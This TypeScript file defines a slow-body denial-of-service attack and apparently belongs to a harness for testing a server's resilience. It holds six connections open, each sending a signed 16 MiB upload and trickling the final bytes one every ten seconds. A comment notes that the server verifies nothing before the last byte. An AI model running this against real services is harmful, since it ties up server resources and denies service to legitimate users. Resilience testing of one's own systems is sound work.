import { type Attack, bytesOf, signed } from "../attack.ts";
import { openConnection } from "../attack-connection.ts";

const declaredBytes = 16 * 1024 ** 2;

export const slowBodies: Attack = {
  name: "six bodies of 16 MiB, the last bytes one in ten seconds",
  async run(target, signal) {
    const { port } = target;
    // The signature of another body, which needs a key id and no secret: nothing is verified before the last byte.
    const request = signed(target, "PutRecord", "");
    const body = Buffer.alloc(declaredBytes - 100, "a");
    const bytes = bytesOf({ ...request, body }, declaredBytes);
    const one = async (): Promise<void> => {
      while (!signal.aborted) {
        const connection = await openConnection(port);
        if (connection === undefined) continue;
        const { socket } = connection;
        socket.write(bytes);
        const over = new Promise<void>((resolve) => {
          socket.once("close", resolve);
          signal.addEventListener("abort", () => resolve());
        });
        const trickle = setInterval(() => socket.write("a"), 10_000);
        await over;
        clearInterval(trickle);
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: 6 }, one));
    return [];
  },
};
